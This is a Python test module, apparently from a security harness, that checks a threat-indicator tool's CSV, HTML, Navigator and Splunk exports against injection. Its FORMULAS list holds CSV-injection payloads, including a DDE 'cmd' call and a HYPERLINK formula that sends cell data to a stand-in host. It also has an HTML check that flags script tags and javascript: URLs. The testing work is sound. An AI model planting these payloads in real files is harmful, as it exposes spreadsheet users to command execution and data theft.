"""What is exported as a table, a page, a layer or a configuration: no cell is a formula, no text of a feed becomes structure."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import checker
import feeds
import hostile
from lab import SKIP, Lab, Row, get, judged, make_key, serving

# OWASP, "CSV Injection": these begin a formula, in ASCII and in full width.
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r"
FORMULAS = (
    *("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", " =1+1", "'=1", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", '"=1', ";=1", ",=1"),
    *("\u200b=1", "\ufeff=1", "\u00a0=1", "=\u202e1", "x\r\n=1", "x;=1+1;@y", "x,=1", "''=1", "\u3000=1", "\x1b[31m=1", "\x00=1", "-"),
    *("=HYPERLINK(\"http://e.example?\"&A1)", "=IMPORTXML(\"http://e.example\",\"//a\")", "%0A=1", "|=1", "+49 1234", "@evil"),
)  # fmt: skip
MAILS = ("=cmd|'/Ccalc'!A0", "+1+1", "-2+3", "=1+1", "'=1", "'+1")


def rows_of(lab: Lab, first: int, count: int) -> list[feeds.Record]:
    """Hostile records of which most texts want to be a formula."""
    rng, rows = lab.rng, feeds.records(lab.rng, first, count, (*feeds.TYPES, "email", "email"))
    for row in rows:
        for name in ("context", "title", "feed", "category", "producer"):
            if rng.random() < 0.7:
                row[name] = rng.choice(FORMULAS) + row["marker"]
        row["tags"] = [rng.choice(FORMULAS) for _ in range(3)] + row["tags"]
        if rng.random() < 0.5:
            row["link"] = rng.choice(FORMULAS)
        if row["type"] == "email" and rng.random() < 0.7:
            row["value"] = f"{rng.choice(MAILS)}{row['marker']}@{row['marker']}.example"
    return rows


def formula(cell: str) -> bool:
    """Whether a spreadsheet may calculate a cell: blanks before the sign make no difference to some."""
    return cell.lstrip(" \u00a0\u3000\u200b\ufeff").startswith(tuple(SIGNS)) or cell.startswith(tuple(SIGNS))


def table_faults(text: str) -> list[str]:
    """What is wrong with a table: a formula, in a cell or between the semicolons of a text; what nobody sees; a row of another width.

    A value is compared with logs, so nothing is put into one: what cuts it at semicolons is not CSV (docs/endpoint.md).
    """
    faults = []
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    width = len(rows[0]) if rows else 0
    for number, row in enumerate(rows, 1):
        if len(row) != width:
            faults.append(f"row {number}: {len(row)} cells of {width}")
        for name, cell in zip(rows[0], row, strict=False):
            if any(formula(part) for part in (cell, *(cell.split(";") if name != "value" else ()))):
                faults.append(f"a formula: {cell!r:.80}")
            if seen := checker.invisible(cell):
                faults.append(f"{seen} raw: {cell!r:.80}")
    # A program that does not know quotes cuts at each comma, semicolon and line end.
    if "\r" in text.replace("\r\n", ""):
        faults.append("a carriage return alone")
    return faults


def store_csv(lab: Lab) -> Iterator[Row]:
    """CSV and the list of values of the endpoint, and the table read again."""
    folder = lab.folder("csv")
    db = folder / "iocs.db"
    rows = rows_of(lab, 0xD00000, 600)
    (folder / "feed.jsonl").write_bytes(feeds.as_lines(rows))
    lab.run("ingest", "--db", db, folder / "feed.jsonl", "-q", timeout=120)
    key = make_key(lab, db)
    with serving(lab, db) as served:
        url = served.url + "/api/v1/iocs?limit=10000"
        table = get(url + "&format=csv", key).body.decode("utf-8")
        lines = get(url + "&format=txt", key).body.decode("utf-8")
        listed = json.loads(get(url, key).body)["data"]
    faults = table_faults(table)
    cells = sum(len(row) for row in csv.reader(io.StringIO(table, newline="")))
    if table.count("\r\n") - 1 != len(listed):
        faults.append(f"{table.count(chr(13)) - 1} rows of {len(listed)} indicators")
    yield judged(
        "no cell is a formula", "CSV of the endpoint", f"{cells:,} cells of {len(listed)} indicators", faults
    )
    # A program that writes the table back has lost nothing: reading takes away what writing added.
    (folder / "export.csv").write_text(table, encoding="utf-8", newline="")
    report = folder / "report.json"
    lab.run(
        "compile", folder / "export.csv", "-q", "-o", folder / "again.yml", "--report", report, "--no-guard"
    )
    values = set(re.findall(r"(?m)^  value: (.*)$", (folder / "again.yml").read_text(encoding="utf-8")))
    counts = json.loads(report.read_text(encoding="utf-8"))["counts"]
    faults = [] if len(values) >= len(listed) else [f"{len(values)} values of {len(listed)}: {counts}"]
    yield judged(
        "no cell is a formula", "that CSV, read again", f"{len(values)} values of {len(listed)}", faults
    )
    wrong = [f"{seen} raw: {line!r:.80}" for line in lines.splitlines() if (seen := checker.invisible(line))]
    known = {row["value"] for row in listed}
    wrong += [
        f"a line that is no value: {line!r:.80}" for line in lines.splitlines() if line and line not in known
    ]
    yield judged(
        "one value a line", "the text list of the endpoint", f"{len(lines.splitlines())} lines", wrong
    )


class Page(HTMLParser):
    """The elements of a page that could run something, or fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.elements = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element."""
        self.elements += 1
        if tag in ("script", "iframe", "object", "embed", "form", "base", "link", "img", "video", "audio"):
            self.faults.append(f"the element {tag}")
        for name, said in attrs:
            if name.startswith("on") or (said or "").strip().lower().startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.faults.append(f"{tag} {name}={said!r:.60}")
            if name in ("src", "srcset", "action", "formaction"):
                self.faults.append(f"{tag} fetches {said!r:.60}")

    handle_startendtag = handle_starttag


def views(lab: Lab) -> Iterator[Row]:
    """The page and the tables of `summary`, the layer of `navigator`, the stanzas of Splunk."""
    folder = lab.folder("views")
    feed = folder / "feed.jsonl"
    feed.write_bytes(feeds.as_lines(rows_of(lab, 0xE00000, 250)))
    ran = lab.run("summary", feed, "--html", folder / "page.html", "-o", folder / "table.txt", "-q")
    page = Page()
    text = (folder / "page.html").read_text(encoding="utf-8")
    page.feed(text)
    faults = [f"summary: status {ran.status}"] if ran.status else []
    faults += page.faults + [
        f"{seen} raw in the page" for line in text.split("\n") if (seen := checker.invisible(line))
    ]
    table = (folder / "table.txt").read_text(encoding="utf-8")
    faults += [f"{seen} raw in the table" for line in table.split("\n") if (seen := checker.invisible(line))]
    promise = "no text of a feed becomes structure"
    yield judged(
        promise, "summary: page and table", f"{page.elements} elements, none that runs or fetches", faults
    )
    ran = lab.run("navigator", feed, "-o", folder / "layer.json", "-q")
    layer = json.loads((folder / "layer.json").read_text(encoding="utf-8"))
    faults = [
        f"technique {one.get('techniqueID')!r:.40}"
        for one in layer["techniques"]
        if not re.fullmatch(r"T\d{4}(\.\d{3})?", str(one.get("techniqueID")))
    ]
    faults += [
        f"{seen} raw in a comment"
        for one in layer["techniques"]
        if (seen := checker.invisible(str(one.get("comment", "")), lines=True))
    ]
    yield judged(promise, "navigator: the layer", f"{len(layer['techniques'])} techniques", faults)
    yield from stanzas(lab, feed)


KEYS = re.compile(r"[a-zA-Z_.]+")


def stanza_faults(text: str, harmless: set[str]) -> tuple[int, list[str]]:
    """How many stanzas a configuration of Splunk has, and lines that are none of a harmless one's."""
    count, faults = 0, []
    # A line that ends in a backslash goes on.
    for line in text.replace("\\\n", " ").split("\n"):
        if line.startswith("["):
            count += 1
            if not line.endswith("]") or "]" in line[1:-1]:
                faults.append(f"a stanza {line!r:.80}")
        elif line.strip():
            name = line.partition("=")[0].strip()
            if not KEYS.fullmatch(name) or (harmless and name not in harmless):
                faults.append(f"a line {line!r:.80}")
        if seen := checker.invisible(line):
            faults.append(f"{seen} raw")
    return count, faults


def stanzas(lab: Lab, feed: object) -> Iterator[Row]:
    """`savedsearches.conf` has one stanza a rule, and the keys of a harmless one."""
    folder = lab.folder("stanzas")
    (folder / "harmless.jsonl").write_bytes(
        feeds.as_lines(feeds.records(lab.rng, 0, 60, feeds.TYPES, hostile.word))
    )
    made = {}
    for name, path in (("harmless", folder / "harmless.jsonl"), ("hostile", feed)):
        out = folder / f"{name}.conf"
        report = folder / f"{name}.json"
        ran = lab.run(
            "convert",
            str(path),
            "-t",
            "splunk",
            "-f",
            "savedsearches",
            "-q",
            "-o",
            out,
            "--report",
            report,
            timeout=120,
        )
        if not out.exists():
            yield Row(
                "no text of a feed becomes structure",
                "savedsearches.conf",
                f"no Splunk here: {ran.err[:80]}",
                SKIP,
            )
            return
        made[name] = out.read_text(encoding="utf-8")
    keys = {
        line.partition("=")[0].strip()
        for line in made["harmless"].replace("\\\n", " ").split("\n")
        if not line.startswith("[")
    }
    count, faults = stanza_faults(made["hostile"], keys)
    rules = json.loads((folder / "hostile.json").read_text(encoding="utf-8"))["counts"]["rules"]
    # A first stanza has the defaults.
    if not rules <= count <= rules + 1:
        faults.append(f"{count} stanzas of {rules} rules")
    yield judged(
        "no text of a feed becomes structure",
        "savedsearches.conf",
        f"{count} stanzas of {rules} rules",
        faults,
    )


def attack(lab: Lab) -> Iterator[Row]:
    """Tables, then views."""
    yield from store_csv(lab)
    yield from views(lab)
